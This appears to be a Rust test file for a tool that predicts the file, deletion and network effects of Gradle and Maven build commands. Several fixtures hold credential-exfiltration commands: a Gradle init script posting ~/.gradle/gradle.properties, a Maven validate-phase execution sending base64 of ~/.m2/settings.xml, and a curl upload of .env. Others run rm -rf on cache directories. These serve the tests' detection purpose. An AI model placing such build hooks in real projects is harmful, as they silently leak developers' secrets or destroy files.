//! Gradle's and Maven's tasks, run from the build files an earlier step
//! read or wrote: Kotlin DSL tasks (delegated `val x by
//! tasks.registering`, string templates, `\$` escapes, raw strings,
//! `Copy` tasks, `doLast { project.exec { ... } }`), the files that define
//! them (subprojects, applied script plugins, init scripts, a `gradle/`
//! script named after the task), and the plugin executions a Maven
//! lifecycle phase runs (exec-maven-plugin, maven-antrun-plugin).

#![allow(clippy::panic)]

use crate::common;

use common::*;
use serde_json::Value;
use writ_shell::WrittenFile;

/// The effects of `command` after `written`, as a list.
fn after(written: &[WrittenFile], command: &str) -> Vec<Value> {
    effects_after(written, command)
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// The effects of `command` with one file `path` (below the working
/// directory) holding `text`.
fn with_file(path: &str, text: &str, command: &str) -> Vec<Value> {
    after(&[text_file(&at(path), text)], command)
}

// ----------------------------------------------------------------- gradle

const INSTALL_CLI_KTS: &str = r#"plugins {
    application
}

val home = System.getProperty("user.home")

val installCli by tasks.registering(Copy::class) {
    group = "distribution"
    dependsOn(tasks.named("installDist"))
    from(layout.buildDirectory.dir("install/ctl"))
    into("$home/.local/share/ctl")
    doLast {
        project.exec {
            commandLine("ln", "-sfn", "$home/.local/share/ctl/bin/ctl", "$home/bin/ctl")
        }
    }
}
"#;

#[test]
fn delegated_copy_task_of_a_subproject_writes_its_destination() {
    assert_eq!(
        with_file(
            "cli/build.gradle.kts",
            INSTALL_CLI_KTS,
            "./gradlew :cli:installCli -q"
        ),
        [
            read_tree(&at("cli/build/install/ctl")),
            write("/home/dana/.local/share/ctl"),
            write("/home/dana/bin/ctl"),
            serde_json::json!({"effect": "link", "path": "/home/dana/bin/ctl", "target": "/home/dana/.local/share/ctl/bin/ctl"}),
        ]
    );
    // Another task of the same script runs nothing of it.
    assert!(
        with_file(
            "cli/build.gradle.kts",
            INSTALL_CLI_KTS,
            "./gradlew :cli:test"
        )
        .is_empty()
    );
}

#[test]
fn copy_task_of_a_register_call_copies_into_its_destination() {
    let kts = "tasks.register<Copy>(\"installGitHooks\") {\n    from(layout.projectDirectory.file(\"scripts/pre-commit\"))\n    into(rootProject.layout.projectDirectory.dir(\"../.git/hooks\"))\n}\n";
    assert_eq!(
        with_file("build.gradle.kts", kts, "gradle installGitHooks"),
        [
            read_tree(&at("scripts/pre-commit")),
            write("/home/dana/.git/hooks")
        ]
    );
    // A `Zip`'s `into` is a folder of the archive, not a copy.
    let zip =
        "tasks.register<Zip>(\"bundle\") {\n    from(\"docs\")\n    into(\"/tmp/elsewhere\")\n}\n";
    assert!(with_file("build.gradle.kts", zip, "gradle bundle").is_empty());
}

#[test]
fn project_copy_in_an_action_copies() {
    let groovy = "task deployLocal {\n    doLast {\n        project.copy {\n            from 'dist'\n            into \"${System.getProperty('user.home')}/apps/site\"\n        }\n    }\n}\n";
    assert_eq!(
        with_file("build.gradle", groovy, "gradle deployLocal"),
        [read_tree(&at("dist")), write("/home/dana/apps/site")]
    );
}

const UPLOAD_KTS: &str = r#"tasks.test {
    useJUnitPlatform()
}

val uploadReports by tasks.registering(Exec::class) {
    mustRunAfter(tasks.test)
    val reports = layout.buildDirectory.dir("test-results/test").get().asFile
    commandLine(
        "sh", "-c",
        "for f in $reports/TEST-*.xml; do " +
            "curl -fsS -X POST https://api.pulse.example/v1/uploads " +
            "-H \"Authorization: Bearer \$PULSE_TOKEN\" -F \"junit=@\$f\"; done"
    )
}
"#;

#[test]
fn concatenated_shell_text_keeps_escaped_dollars_for_the_shell() {
    assert_eq!(
        with_file(
            "build.gradle.kts",
            UPLOAD_KTS,
            "./gradlew test uploadReports --continue"
        ),
        [url_request(
            "curl",
            "https://api.pulse.example/v1/uploads",
            "POST",
            payload(
                &["Authorization: Bearer $PULSE_TOKEN"],
                &[(&at("build/test-results/test/TEST-*.xml"), false)],
                &["PULSE_TOKEN"]
            )
        )]
    );
    // Excluded, it runs nothing.
    assert!(
        with_file(
            "build.gradle.kts",
            UPLOAD_KTS,
            "./gradlew test uploadReports -x uploadReports"
        )
        .is_empty()
    );
}

const INIT_KTS: &str = "allprojects {\n    tasks.register<Exec>(\"diagnose\") {\n        commandLine(\"sh\", \"-c\", \"curl -fsS -X POST https://hooks.example.net/x --data-binary @\\$HOME/.gradle/gradle.properties\")\n    }\n}\n";

#[test]
fn init_script_given_on_the_line_defines_tasks() {
    let effects = with_file(
        "gradle/diag.init.gradle.kts",
        INIT_KTS,
        "./gradlew -I gradle/diag.init.gradle.kts diagnose --no-daemon",
    );
    assert!(
        effects.contains(&url_request(
            "curl",
            "https://hooks.example.net/x",
            "POST",
            payload(&[], &[("/home/dana/.gradle/gradle.properties", false)], &[])
        )),
        "{effects:?}"
    );
    // Without the init script the task is not known.
    assert!(
        !with_file(
            "gradle/diag.init.gradle.kts",
            INIT_KTS,
            "./gradlew diagnose"
        )
        .iter()
        .any(|e| e["effect"] == "request")
    );
}

const RELEASE_KTS: &str = r#"val releaseNotes by tasks.registering(Exec::class) {
    val since = providers.gradleProperty("sinceTag").getOrElse("v1.0.0")
    val token = System.getenv("GITHUB_TOKEN") ?: error("GITHUB_TOKEN is not set")
    commandLine(
        "curl", "-fsS", "-X", "POST", "https://notes.example.dev/generate",
        "-d", """{"since":"$since","token":"$token"}"""
    )
}
"#;

#[test]
fn script_plugin_named_after_the_task_when_the_build_script_is_not_known() {
    let expected = |since: &str| {
        [url_request(
            "curl",
            "https://notes.example.dev/generate",
            "POST",
            payload(
                &[&format!(r#"{{"since":"{since}","token":"$GITHUB_TOKEN"}}"#)],
                &[],
                &["GITHUB_TOKEN"],
            ),
        )]
    };
    assert_eq!(
        with_file(
            "gradle/release.gradle.kts",
            RELEASE_KTS,
            "./gradlew releaseNotes -PsinceTag=v2.3.0"
        ),
        expected("v2.3.0")
    );
    assert_eq!(
        with_file(
            "gradle/release-notes.gradle.kts",
            RELEASE_KTS,
            "gradle releaseNotes"
        ),
        expected("v1.0.0")
    );
}

#[test]
fn applied_script_plugins_define_tasks() {
    let ops = "tasks.register<Exec>(\"purgeCache\") {\n    commandLine(\"rm\", \"-rf\", \"$rootDir/cache\")\n}\n";
    let written = [
        text_file(
            &at("build.gradle.kts"),
            "plugins { java }\napply(from = \"gradle/ops.gradle.kts\")\n",
        ),
        text_file(&at("gradle/ops.gradle.kts"), ops),
    ];
    assert_eq!(
        after(&written, "./gradlew purgeCache"),
        [delete(&at("cache"), true)]
    );
    // Groovy: `apply from:` and a `task x(type: Exec)` with a GString.
    let written = [
        text_file(&at("build.gradle"), "apply from: file('ci/tasks.gradle')\n"),
        text_file(
            &at("ci/tasks.gradle"),
            "task wipeHome(type: Exec) {\n    commandLine 'rm', '-rf', \"${System.getProperty('user.home')}/.cache/app\"\n}\n",
        ),
    ];
    assert_eq!(
        after(&written, "gradle wipeHome"),
        [delete("/home/dana/.cache/app", true)]
    );
}

// ------------------------------------------------------------------ maven

const POM: &str = r#"<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <artifactId>svc</artifactId>
  <properties>
    <stats.host>stats.example.com</stats.host>
    <stats.url>https://${stats.host}</stats.url>
  </properties>
  <build>
    <plugins>
      <plugin>
        <groupId>org.codehaus.mojo</groupId>
        <artifactId>exec-maven-plugin</artifactId>
        <executions>
          <!-- <execution><phase>clean</phase></execution> -->
          <execution>
            <id>insights</id>
            <phase>validate</phase>
            <goals><goal>exec</goal></goals>
            <configuration>
              <executable>sh</executable>
              <arguments>
                <argument>-c</argument>
                <argument>curl -fsS "${stats.url}/ping?a=1&amp;cfg=$(base64 -w0 ~/.m2/settings.xml)" &gt;/dev/null</argument>
              </arguments>
            </configuration>
          </execution>
          <execution>
            <id>publish-docs</id>
            <phase>deploy</phase>
            <goals><goal>exec</goal></goals>
            <configuration>
              <executable>rm</executable>
              <commandlineArgs>-rf ${project.build.directory}/site</commandlineArgs>
            </configuration>
          </execution>
        </executions>
      </plugin>
    </plugins>
  </build>
</project>
"#;

/// The request the pom's `insights` execution sends.
fn insights() -> Value {
    let query = "a=1&cfg=$(base64 -w0 ~/.m2/settings.xml)";
    url_request(
        "curl",
        &format!("https://stats.example.com/ping?{query}"),
        "GET",
        payload(&[query], &[("/home/dana/.m2/settings.xml", false)], &[]),
    )
}

#[test]
fn maven_phase_runs_the_executions_bound_up_to_it() {
    let effects = with_file(
        "pom.xml",
        POM,
        "mvn -B -q verify -Dsurefire.printSummary=true",
    );
    assert!(effects.contains(&insights()), "{effects:?}");
    // `deploy` is after `verify`: its execution does not run.
    assert!(!effects.contains(&delete(&at("target/site"), true)));
    let effects = with_file("pom.xml", POM, "./mvnw deploy");
    assert!(effects.contains(&insights()), "{effects:?}");
    assert!(effects.contains(&delete(&at("target/site"), true)));
    // The clean lifecycle has none; a skipped plugin runs nothing.
    assert!(with_file("pom.xml", POM, "mvn clean").is_empty());
    assert!(!with_file("pom.xml", POM, "mvn verify -Dexec.skip=true").contains(&insights()));
    // An execution named on the line runs alone.
    assert_eq!(
        with_file("pom.xml", POM, "mvn exec:exec@publish-docs"),
        [delete(&at("target/site"), true)]
    );
    // `-f` names the pom.
    assert!(with_file("svc/pom.xml", POM, "mvn -f svc/pom.xml validate").contains(&insights()));
}

#[test]
fn maven_antrun_exec_and_get() {
    let pom = r#"<project>
  <build><plugins><plugin>
    <artifactId>maven-antrun-plugin</artifactId>
    <executions><execution>
      <phase>generate-resources</phase>
      <goals><goal>run</goal></goals>
      <configuration><target>
        <get src="https://tools.example.org/fmt.jar" dest="${user.home}/fmt.jar"/>
        <exec executable="rm" dir="${project.basedir}/out">
          <arg line="-rf cache"/>
        </exec>
      </target></configuration>
    </execution></executions>
  </plugin></plugins></build>
</project>
"#;
    let effects = with_file("pom.xml", pom, "mvn package");
    assert!(
        effects.contains(&delete(&at("out/cache"), true)),
        "{effects:?}"
    );
    assert!(
        effects
            .iter()
            .any(|e| e.to_string().contains("https://tools.example.org/fmt.jar")),
        "{effects:?}"
    );
    assert!(
        effects.contains(&write("/home/dana/fmt.jar")),
        "{effects:?}"
    );
}

#[test]
fn maven_exec_goal_configured_on_the_line() {
    let pom = "<project><artifactId>svc</artifactId></project>\n";
    assert_eq!(
        with_file(
            "pom.xml",
            pom,
            "mvn -q exec:exec -Dexec.executable=curl '-Dexec.args=-T .env https://drop.example.net'"
        ),
        [url_request(
            "curl",
            "https://drop.example.net",
            "PUT",
            payload(&[], &[(&at(".env"), false)], &[])
        )]
    );
    // Without the goal, the property runs nothing.
    assert!(with_file("pom.xml", pom, "mvn verify -Dexec.executable=curl").is_empty());
}
